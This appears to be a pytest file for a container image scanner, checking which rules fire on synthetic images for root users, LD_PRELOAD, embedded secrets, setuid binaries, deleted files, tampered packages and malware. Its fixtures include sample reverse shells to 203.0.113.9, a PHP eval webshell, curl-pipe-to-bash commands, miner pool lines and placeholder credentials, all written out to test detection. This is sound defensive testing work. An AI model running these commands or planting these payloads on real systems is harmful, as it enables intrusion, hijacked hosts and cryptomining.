"""Each built-in rule on small synthetic images: what fires, at which layer and path, with what severity,
and what must stay quiet."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from scanner.engine import ScanOptions, scan
from scanner.engine.model import Severity
from scanner.engine.report import to_dict
from tests.imagefactory import Entry, build_image

from .helpers import AWS_KEY_ID, AWS_SECRET, ELF, apk_base, by_rule, dpkg_base, one, scan_layers

SEV = Severity

# -- config ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("user", "fires"),
    [
        ("", True),
        ("root", True),
        ("0", True),
        ("0:0", True),
        ("root:root", True),
        ("0:1000", True),
        ("admin", True),  # uid 0 in the image's /etc/passwd
        ("10001", False),
        ("app", False),
        ("10001:10001", False),
        ("nobody", False),
    ],
)
def test_user_root(tmp_path: Path, user: str, fires: bool) -> None:
    image = scan_layers(tmp_path, [dpkg_base({})], config={"User": user})
    found = by_rule(image, "config.user-root")
    assert bool(found) is fires, [f.detail for f in found]
    if fires:
        assert found[0].severity is SEV.MEDIUM and found[0].layer_index is None
    if user == "admin":
        assert "uid 0" in found[0].detail


def test_ld_preload_and_library_path(tmp_path: Path) -> None:
    env = [
        "PATH=/usr/bin",
        "LD_PRELOAD=/usr/lib/libhide.so",
        "LD_AUDIT=/opt/audit.so",
        "LD_LIBRARY_PATH=/usr/lib:/tmp/libs",
    ]
    image = scan_layers(tmp_path, [[("/a", b"x")]], config={"Env": env, "User": "1"})
    found = by_rule(image, "config.ld-preload")
    assert {f.excerpt.split("=")[0] for f in found} == {"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH"}
    assert all(f.severity is SEV.HIGH for f in found)
    quiet = scan_layers(
        tmp_path,
        [[("/a", b"x")]],
        name="quiet.tar",
        config={"Env": ["LD_LIBRARY_PATH=/usr/local/lib:/opt/app/lib"], "User": "1"},
    )
    assert not by_rule(quiet, "config.ld-preload")


def test_secret_env_reports_example_keys_redacted(tmp_path: Path) -> None:
    env = [
        f"AWS_ACCESS_KEY_ID={AWS_KEY_ID}",
        f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}",
        "DB_PASSWORD=s3cr3t-Passw0rd",
        "GITHUB_TOKEN=ghp_" + "a1B2" * 9,
        "DATABASE_URL=postgres://app:hunter2hunter2@db:5432/app",
        "POSTGRES_PASSWORD_FILE=/run/secrets/pg",
        "API_TOKEN=${API_TOKEN}",
        "PASSWORD_LENGTH_MIN=true",
    ]
    history = [
        {"created_by": f"/bin/sh -c #(nop) ENV AWS_SECRET_ACCESS_KEY={AWS_SECRET}", "empty_layer": True},
        {"created_by": "/bin/sh -c #(nop) COPY file:abc in /"},
    ]
    image = scan_layers(tmp_path, [[("/a", b"x")]], config={"Env": env, "User": "1"}, history=history)
    found = by_rule(image, "secret.env")
    assert all(f.severity is SEV.CRITICAL for f in found)
    named = {f.detail.split(" in ")[0] for f in found}
    again = build_image(
        tmp_path / "again.tar",
        [[("/a", b"x")]],
        fmt="oci-archive",
        config={"Env": env, "User": "1"},
        history=history,
    )
    # (the layers' created_by / empty_history are the image's own history, verbatim evidence: findings only)
    text = json.dumps(to_dict(scan(str(again.path)))["images"][0]["findings"])
    for secret in (AWS_SECRET, "s3cr3t-Passw0rd", "hunter2hunter2", "a1B2" * 9):
        assert secret not in text  # never printed whole, anywhere in the findings
    details = " ".join(f.detail + f.excerpt for f in found)
    assert "AWS access key id" in details and "AWS secret access key" in details  # "EXAMPLE" is no excuse
    assert (
        "DB_PASSWORD" in details and "GitHub token" in details and "URL with an embedded password" in details
    )
    assert "POSTGRES_PASSWORD_FILE" not in details and "API_TOKEN" not in details
    assert any(f.excerpt.startswith("wJal…[40 chars, sha256:") for f in found), named
    # the ENV history step is a finding of its own (history is part of the image too)
    assert any("history step before layer 0" in f.detail for f in found)


# -- history --------------------------------------------------------------------------------------------

PIPES = [
    "/bin/sh -c curl -fsSL https://get.example.sh | bash",
    "/bin/sh -c wget -qO- https://x.io/i.sh | sudo -E bash -s -- --yes",
    "/bin/sh -c busybox wget -O - http://10.0.0.1/x | sh",
    "/bin/sh -c curl https://x | python3 -",
    "/bin/sh -c bash <(curl -s https://x/install)",
    '/bin/sh -c sh -c "$(curl -fsSL https://raw.example.com/install.sh)"',
    "|1 TOKEN=abc /bin/sh -c curl -o /tmp/i.sh https://x/i.sh && sh /tmp/i.sh && rm /tmp/i.sh",
    "/bin/sh -c wget -O /tmp/x https://x/x && chmod +x /tmp/x && /tmp/x",
]
NOT_PIPES = [
    "/bin/sh -c curl -fsSL https://x/key.gpg | gpg --dearmor -o /usr/share/keyrings/x.gpg",
    "/bin/sh -c curl -sSL https://x/a.tar.gz | tar -xz -C /opt",
    "/bin/sh -c curl -o /tmp/x.tgz https://x && sha256sum -c sums && tar xf /tmp/x.tgz",
    "/bin/sh -c apt-get update && apt-get install -y curl",
    "/bin/sh -c echo hello | sha256sum",
]


@pytest.mark.parametrize("command", PIPES)
def test_pipe_to_shell(tmp_path: Path, command: str) -> None:
    image = scan_layers(
        tmp_path,
        [[("/a", b"x")], [("/b", b"y")]],
        config={"User": "1"},
        history=[{"created_by": "ADD rootfs.tar /"}, {"created_by": command}],
    )
    finding = one(image, "history.pipe-to-shell")
    assert finding.layer_index == 1 and finding.severity is SEV.HIGH


@pytest.mark.parametrize("command", NOT_PIPES)
def test_not_pipe_to_shell(tmp_path: Path, command: str) -> None:
    image = scan_layers(tmp_path, [[("/a", b"x")]], config={"User": "1"}, history=[{"created_by": command}])
    assert not by_rule(image, "history.pipe-to-shell")


def test_remote_add_and_download_delete(tmp_path: Path) -> None:
    history = [
        {"created_by": "ADD https://example.org/tool.tgz /opt/"},
        {"created_by": "ADD --checksum=sha256:abc https://example.org/t.tgz /opt/"},
        {"created_by": "/bin/sh -c wget -O /tmp/a.tgz https://x/a.tgz && tar xf /tmp/a.tgz && rm /tmp/a.tgz"},
    ]
    image = scan_layers(
        tmp_path, [[("/a", b"1")], [("/b", b"2")], [("/c", b"3")]], config={"User": "1"}, history=history
    )
    assert one(image, "history.remote-add").layer_index == 0
    assert one(image, "history.download-delete").layer_index == 2
    assert one(image, "history.download-delete").severity is SEV.LOW


# -- files ----------------------------------------------------------------------------------------------

PASSWD_BIN = ELF + b"passwd binary" * 20
LIBC = ELF + b"GNU C Library (Debian GLIBC 2.36-9+deb12u9) stable release" * 50


def test_setuid_owned_is_info_else_high(tmp_path: Path) -> None:
    base = dpkg_base({"/usr/bin/passwd": (PASSWD_BIN, 0o4755), "/usr/bin/chage": (ELF + b"chage", 0o2755)})
    top = [
        Entry("/usr/local/bin/helper", ELF + b"helper", mode=0o4755),  # unowned, outside system dirs
        Entry("/usr/bin/.sshd", ELF + b"x", mode=0o4755),
    ]  # hidden
    image = scan_layers(tmp_path, [base, top], config={"User": "1"})
    assert one(image, "file.setuid", "/usr/bin/passwd").severity is SEV.INFO
    assert one(image, "file.setuid", "/usr/bin/chage").severity is SEV.INFO
    helper = one(image, "file.setuid", "/usr/local/bin/helper")
    assert helper.severity is SEV.HIGH and "not owned" in helper.detail and "outside" in helper.detail
    assert one(image, "file.setuid", "/usr/bin/.sshd").severity is SEV.HIGH


def test_setuid_modified_is_high(tmp_path: Path) -> None:
    base = dpkg_base({"/usr/bin/passwd": (PASSWD_BIN, 0o4755)})
    image = scan_layers(
        tmp_path, [base, [Entry("/usr/bin/passwd", ELF + b"backdoor", mode=0o4755)]], config={"User": "1"}
    )
    modified = [f for f in by_rule(image, "file.setuid") if f.layer_index == 1]
    assert modified and modified[0].severity is SEV.HIGH and "modified" in modified[0].detail
    # the original, overwritten by the backdoor, is still in layer 0
    assert one(image, "layer.deleted-file", "/usr/bin/passwd").layer_index == 0


def test_hidden_executable_paths(tmp_path: Path) -> None:
    layer = [
        Entry("/usr/bin/.x", ELF, mode=0o755),
        Entry("/lib/x86_64-linux-gnu/.so", ELF, mode=0o644),
        Entry("/usr/lib/.cache/payload", ELF, mode=0o755),
        Entry("/usr/local/bin/.y", b"#!/bin/sh\n", mode=0o755),
        ("/etc/skel/.bashrc", b"# ok\n"),
        ("/home/app/.profile", b"# ok\n"),
        ("/usr/share/.hidden", b"doc"),
    ]
    image = scan_layers(tmp_path, [layer], config={"User": "1"})
    assert {f.path for f in by_rule(image, "file.hidden-executable")} == {
        "/usr/bin/.x",
        "/lib/x86_64-linux-gnu/.so",
        "/usr/lib/.cache/payload",
        "/usr/local/bin/.y",
    }


def test_ld_so_preload_names_the_library(tmp_path: Path) -> None:
    lib = ELF + b"readdir dlsym process_to_filter"
    layers = [
        [Entry("/usr/lib/libhide.so", lib, mode=0o755)],
        [("/etc/ld.so.preload", b"# hooks\n/usr/lib/libhide.so\n")],
    ]
    image = scan_layers(tmp_path, layers, config={"User": "1"})
    finding = one(image, "file.ld-so-preload")
    assert (
        finding.severity is SEV.CRITICAL and finding.layer_index == 1 and finding.path == "/etc/ld.so.preload"
    )
    assert "/usr/lib/libhide.so (layer 0, sha256 " in finding.detail
    assert "ld_preload_process_hider" in one(image, "malware.yara", "/usr/lib/libhide.so").detail
    empty = scan_layers(
        tmp_path, [[("/etc/ld.so.preload", b"# nothing\n")]], name="e.tar", config={"User": "1"}
    )
    assert not by_rule(empty, "file.ld-so-preload")


# -- the graveyard --------------------------------------------------------------------------------------


def test_deleted_file_severity_and_links(tmp_path: Path) -> None:
    miner = ELF + b"xmrig --donate-level 1 -o stratum+tcp://pool.minexmr.com:4444"
    layers = [
        [
            Entry("/usr/bin/.hidden_miner", miner, mode=0o4755),
            ("/var/cache/apt/pkgcache.bin", b"cache"),
            ("/app/notes.txt", b"notes"),
            ("/etc/motd", b"hello"),
            ("/root/.aws/credentials", f"[default]\naws_secret_access_key = {AWS_SECRET}\n".encode()),
            Entry("/opt/run.sh", b"#!/bin/sh\necho\n", mode=0o644),
        ],
        [
            Entry("/usr/bin/.wh..hidden_miner"),
            Entry("/var/cache/apt/.wh.pkgcache.bin"),
            Entry("/app/.wh.notes.txt"),
            ("/etc/motd", b"monitored"),
            Entry("/root/.aws/.wh.credentials"),
            Entry("/opt/.wh.run.sh"),
        ],
    ]
    image = scan_layers(tmp_path, layers, config={"User": "1"})
    sev = {f.path: f.severity for f in by_rule(image, "layer.deleted-file")}
    assert sev == {
        "/usr/bin/.hidden_miner": SEV.HIGH,
        "/root/.aws/credentials": SEV.HIGH,
        "/opt/run.sh": SEV.HIGH,
        "/app/notes.txt": SEV.LOW,
        "/var/cache/apt/pkgcache.bin": SEV.INFO,
        "/etc/motd": SEV.INFO,
    }
    miner_grave = one(image, "layer.deleted-file", "/usr/bin/.hidden_miner")
    assert miner_grave.layer_index == 0 and miner_grave.hidden_layer_index == 1
    on_miner = [f for f in image.findings if f.path == "/usr/bin/.hidden_miner" and f is not miner_grave]
    assert {f.rule_id for f in on_miner} == {"malware.yara", "file.setuid", "file.hidden-executable"}
    assert set(miner_grave.related) == {f.fingerprint for f in on_miner}
    assert all(miner_grave.fingerprint in f.related for f in on_miner)
    assert all(f.hidden_layer_index == 1 and f.layer_index == 0 for f in on_miner)
    secret = one(image, "secret.file", "/root/.aws/credentials")
    assert (
        secret.layer_index == 0
        and secret.hidden_layer_index == 1
        and "deleted (whiteout) by layer 1" in secret.detail
    )
    assert AWS_SECRET not in secret.detail + secret.excerpt


# -- package databases ----------------------------------------------------------------------------------


def test_dpkg_modified_library_is_critical(tmp_path: Path) -> None:
    base = dpkg_base(
        {
            "/usr/lib/x86_64-linux-gnu/libc.so.6": (LIBC, 0o755),
            "/usr/share/zoneinfo/UTC": (b"TZif2", 0o644),
            "/usr/share/doc/libc6/README": (b"docs", 0o644),
        },
        conffiles={"/etc/ld.so.conf": b"include /etc/ld.so.conf.d/*.conf\n"},
    )
    patched = bytearray(LIBC)
    patched[100:104] = b"EVIL"
    top = [
        Entry("/usr/lib/x86_64-linux-gnu/libc.so.6", bytes(patched), mode=0o755),
        ("/usr/share/zoneinfo/UTC", b"TZif2-changed"),
        ("/usr/share/doc/libc6/README", b"changed docs"),
        ("/etc/ld.so.conf", b"/opt/evil\n"),
    ]
    image = scan_layers(tmp_path, [base, top], config={"User": "1"})
    found = {f.path: f for f in by_rule(image, "package.modified-file")}
    assert found["/usr/lib/x86_64-linux-gnu/libc.so.6"].severity is SEV.CRITICAL
    assert found["/usr/lib/x86_64-linux-gnu/libc.so.6"].layer_index == 1
    assert "libc6" in found["/usr/lib/x86_64-linux-gnu/libc.so.6"].detail
    assert found["/usr/share/zoneinfo/UTC"].severity is SEV.MEDIUM
    assert "/usr/share/doc/libc6/README" not in found  # documentation is not verified, by design
    assert found["/etc/ld.so.conf"].severity is SEV.INFO  # a conffile
    assert [p.name for p in image.packages] == ["libc6"] and image.distro["ID"] == "debian"


@pytest.mark.parametrize("jobs", [1, 2])
def test_dpkg_unchanged_and_rewritten_identically_is_quiet(tmp_path: Path, jobs: int) -> None:
    base = dpkg_base({"/usr/lib/x86_64-linux-gnu/libc.so.6": (LIBC, 0o755)})
    top = [Entry("/usr/lib/x86_64-linux-gnu/libc.so.6", LIBC, mode=0o755)]  # a chown -R writes it again
    image = scan_layers(
        tmp_path, [base, [("/app/x", b"1")], top], config={"User": "1"}, options=ScanOptions(jobs=jobs)
    )
    assert not by_rule(image, "package.modified-file") and not by_rule(image, "package.unverified-file")


def test_merged_usr_paths_resolve(tmp_path: Path) -> None:
    # dpkg lists /bin/su; the file is /usr/bin/su because /bin -> usr/bin (merged /usr)
    su = ELF + b"su"
    layer = [Entry("/bin", type="symlink", linkname="usr/bin"), Entry("/usr/bin/su", su, mode=0o4755)]
    status = b"Package: util-linux\nStatus: install ok installed\nVersion: 2.38\nArchitecture: amd64\n\n"
    layer += [
        ("/etc/dpkg/dpkg.cfg", b""),
        ("/var/lib/dpkg/status", status),
        (
            "/var/lib/dpkg/info/util-linux.md5sums",
            f"{__import__('hashlib').md5(su).hexdigest()}  bin/su\n".encode(),
        ),
    ]
    image = scan_layers(tmp_path, [layer], config={"User": "1"})
    assert one(image, "file.setuid", "/usr/bin/su").severity is SEV.INFO


def test_apk_modified_and_unowned(tmp_path: Path) -> None:
    busybox = ELF + b"BusyBox v1.36.1"
    base = apk_base({"/bin/busybox": (busybox, 0o755), "/lib/ld-musl-x86_64.so.1": (ELF + b"musl", 0o755)})
    top = [
        Entry("/bin/busybox", ELF + b"BusyBox v1.36.1 trojan", mode=0o755),
        Entry("/usr/bin/implant", ELF + b"implant", mode=0o755),
        Entry("/usr/local/bin/app", ELF + b"a", mode=0o755),
    ]
    image = scan_layers(tmp_path, [base, top], config={"User": "1"})
    modified = one(image, "package.modified-file", "/bin/busybox")
    assert modified.severity is SEV.CRITICAL and "sha1" in modified.detail and modified.layer_index == 1
    assert not by_rule(image, "package.modified-file")[1:]
    unowned = one(image, "package.unowned-binary")
    assert (
        unowned.path == "/usr/bin/implant" and unowned.severity is SEV.MEDIUM
    )  # /usr/local is not a system path
    assert {(p.manager, p.name, p.version) for p in image.packages} == {("apk", "musl", "1.2.4-r2")}


def test_no_database_no_ownership_claims(tmp_path: Path) -> None:
    image = scan_layers(tmp_path, [[Entry("/usr/bin/tool", ELF, mode=0o755)]], config={"User": "1"})
    assert not by_rule(image, "package.unowned-binary") and not image.packages


def test_planted_hint_cannot_hide_a_modified_library(tmp_path: Path) -> None:
    """A layer that pretends to be an apk system gets only SHA-1s; the dpkg image still flags the
    libc it replaced (content-addressed: the original's MD5 is known from layer 0)."""
    base = dpkg_base({"/usr/lib/x86_64-linux-gnu/libc.so.6": (LIBC, 0o755)})
    top = [
        ("/etc/apk/arch", b"x86_64\n"),
        Entry("/usr/lib/x86_64-linux-gnu/libc.so.6", LIBC + b"evil", mode=0o755),
    ]
    for jobs in (1, 2):
        image = scan_layers(
            tmp_path, [base, top], name=f"p{jobs}.tar", config={"User": "1"}, options=ScanOptions(jobs=jobs)
        )
        assert one(image, "package.modified-file").severity is SEV.CRITICAL, jobs


# -- secrets and malware in files -------------------------------------------------------------------------


def test_secret_files_no_allow_list(tmp_path: Path) -> None:
    key = (
        "-----BEGIN OPENSSH PRIVATE KEY-----\n" + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ" * 3 + "\n"
        "-----END OPENSSH PRIVATE KEY-----\n"
    ).encode()
    layer = [
        ("/app/example/test/.env", f"AWS_ACCESS_KEY_ID={AWS_KEY_ID}\nDB_PASSWORD=hunter2hunter2\n".encode()),
        ("/srv/examples/id_ed25519", key),
        ("/root/.docker/config.json", b'{"auths":{"r.io":{"auth":"dXNlcjpwYXNzd29yZDEyMw=="}}}'),
        ("/app/config/settings.py", b"SECRET_KEY = 'django-insecure-abcdefgh12345'\nDEBUG = False\n"),
        ("/app/config/database.yml", b"production:\n  password: Zx9!realpass\n"),
        ("/home/app/.npmrc", b"//registry.npmjs.org/:_authToken=npm_" + b"A1b2" * 9 + b"\n"),
        (
            "/docs/README.md",
            b"connect with postgres://user:password@localhost/db or https://user:pass@x.org\n",
        ),
        ("/usr/lib/libtls.so", ELF + b"\x00-----BEGIN RSA PRIVATE KEY-----\x00"),  # a PEM parser's string
    ]
    image = scan_layers(tmp_path, [layer], config={"User": "1"})
    paths = {f.path for f in by_rule(image, "secret.file")}
    assert paths == {
        "/app/example/test/.env",
        "/srv/examples/id_ed25519",
        "/root/.docker/config.json",
        "/app/config/settings.py",
        "/app/config/database.yml",
        "/home/app/.npmrc",
    }
    env_file = [f for f in by_rule(image, "secret.file") if f.path == "/app/example/test/.env"]
    assert len(env_file) == 2  # the key id and the password: one finding per distinct secret
    assert all(f.severity is SEV.CRITICAL for f in by_rule(image, "secret.file"))
    blob = json.dumps([f.excerpt + f.detail for f in image.findings])
    for secret in ("hunter2hunter2", "Zx9!realpass", "django-insecure-abcdefgh12345", "A1b2A1b2A1b2"):
        assert secret not in blob


@pytest.mark.parametrize(
    ("path", "data", "rule"),
    [
        ("/usr/bin/kworker", ELF + b"\x00XMRig 6.21.0\x00--donate-level\x00", "cryptominer_xmrig"),
        (
            "/opt/m/config.json",
            b'{"pools":[{"url":"stratum+tcp://pool.example.com:3333"}]}',
            "cryptominer_stratum",
        ),
        ("/etc/cron.d/x", b"* * * * * root curl -s pool.supportxmr.com\n", "cryptominer_pool_domain"),
        ("/tmp/r.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "reverse_shell"),
        ("/tmp/n.sh", b"nc -e /bin/sh 203.0.113.9 4444\n", "reverse_shell"),
        ("/var/www/html/up.php", b"<?php @eval($_POST['cmd']); ?>", "webshell_php"),
        (
            "/usr/local/lib/libhider.so",
            ELF + b"\x00process_to_filter\x00readdir\x00",
            "ld_preload_process_hider",
        ),
    ],
)
def test_malware_rules(tmp_path: Path, path: str, data: bytes, rule: str) -> None:
    image = scan_layers(tmp_path, [[Entry(path, data, mode=0o755)]], config={"User": "1"})
    found = [f for f in by_rule(image, "malware.yara") if f.path == path]
    assert found and any(rule in f.detail for f in found), [f.detail for f in image.findings]
    assert found[0].severity is SEV.CRITICAL and found[0].layer_index == 0


def test_miner_in_config_command_line(tmp_path: Path) -> None:
    image = scan_layers(
        tmp_path,
        [[("/a", b"1")]],
        config={
            "User": "1",
            "Cmd": ["/opt/kw", "-o", "stratum+tcp://pool.minexmr.com:4444", "--donate-level=1"],
        },
    )
    assert any(f.layer_index is None and "Cmd" in f.detail for f in by_rule(image, "malware.yara"))


def test_large_files_are_counted_not_scanned(tmp_path: Path) -> None:
    from scanner.engine.limits import Limits

    big = b"stratum+tcp://pool.minexmr.com\n" + b"a" * 5000
    image = scan_layers(
        tmp_path,
        [[("/big.txt", big)]],
        config={"User": "1"},
        options=ScanOptions(limits=Limits(max_scan_text=1024)),
    )
    assert not by_rule(image, "malware.yara")
    skipped = one(image, "scan.content-skipped")
    assert skipped.severity is SEV.INFO and "/big.txt" in skipped.detail


# -- references -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tags", "reference", "expected"),
    [
        (["victim/app:latest"], "", [SEV.MEDIUM]),
        (["victim/app:1.4"], "", [SEV.LOW]),
        (["victim/app:1.4"], "registry.example/victim/app:latest", [SEV.MEDIUM]),
        (["victim/app:1.4"], "registry.example/victim/app@sha256:" + "a" * 64, []),
        ([], "", []),
    ],
)
def test_mutable_tag(tmp_path: Path, tags: list, reference: str, expected: list) -> None:
    image = scan_layers(
        tmp_path,
        [[("/a", b"1")]],
        repo_tags=tags,
        config={"User": "1"},
        options=ScanOptions(reference=reference),
    )
    assert [f.severity for f in by_rule(image, "reference.mutable-tag")] == expected


# -- fingerprints, formats, parallel --------------------------------------------------------------------

INCIDENT_LAYERS = [
    dpkg_base({"/usr/lib/x86_64-linux-gnu/libc.so.6": (LIBC, 0o755)}),
    [Entry("/usr/bin/.hidden_miner", ELF + b"xmrig --donate-level=1 stratum+tcp://x:1", mode=0o4755)],
    [
        Entry("/usr/bin/.wh..hidden_miner"),
        Entry("/usr/lib/x86_64-linux-gnu/libc.so.6", LIBC + b"!", mode=0o755),
    ],
]


def _rows(image) -> list:
    return sorted(
        (f.rule_id, str(f.severity), f.layer_index, f.path, f.sha256, f.fingerprint)
        for f in image.findings
        if not f.rule_id.startswith("integrity.")
    )


def test_fingerprints_are_stable_across_formats_compression_and_jobs(tmp_path: Path) -> None:
    config = {"User": "", "Env": [f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}"]}
    rows = []
    for n, (fmt, compression, jobs) in enumerate(
        [("oci-archive", "gzip", 1), ("docker-archive", "none", 1), ("oci", "zstd", 2)]
    ):
        image = scan_layers(
            tmp_path,
            INCIDENT_LAYERS,
            name=f"i{n}",
            fmt=fmt,
            compression=compression,
            repo_tags=["victim/app:latest"],
            config=config,
            options=ScanOptions(jobs=jobs),
        )
        rows.append(_rows(image))
    assert rows[0] == rows[1] == rows[2]
    assert len({r[5] for r in rows[0]}) == len(rows[0])  # unique per image


def test_rules_off(tmp_path: Path) -> None:
    image = scan_layers(tmp_path, INCIDENT_LAYERS, config={"User": ""}, options=ScanOptions(rules=False))
    assert image.findings == [] and image.packages == []
